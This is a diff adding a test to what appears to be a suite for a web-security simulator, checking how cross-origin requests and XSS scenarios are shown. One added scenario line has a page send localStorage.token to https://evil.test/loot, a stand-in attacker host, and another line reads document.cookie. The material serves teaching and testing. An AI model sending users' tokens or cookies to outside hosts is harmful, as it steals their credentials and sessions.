@@ -76,6 +76,16 @@ describe("what a script read stands under the page", () => {
     expect(drawn("shop-cors", allowed)).toContain("script got 200 OK");
   });
 
+  test("of what it sends to another site without asking whether it may, there is nothing to read", () => {
+    const steps = [
+      "browser open https://shop.test/bike",
+      "page send localStorage.token to https://evil.test/loot",
+    ];
+    expect(drawn("shop-xss", steps, "none", 100, 30, -1)).toContain("script got nothing to read");
+    const own = [...steps.slice(0, 1), "page fetch GET /profile bearer localStorage.token"];
+    expect(drawn("shop-xss", own, "none", 100, 30, -1)).toContain("script got 200 OK");
+  });
+
   test("until the next beat, and not if it wrote something", () => {
     const read = [bare, "page read document.cookie"];
     expect(drawn("shop-guards", [...read, enter], "none", 100, 30, -1)).not.toContain("script got");
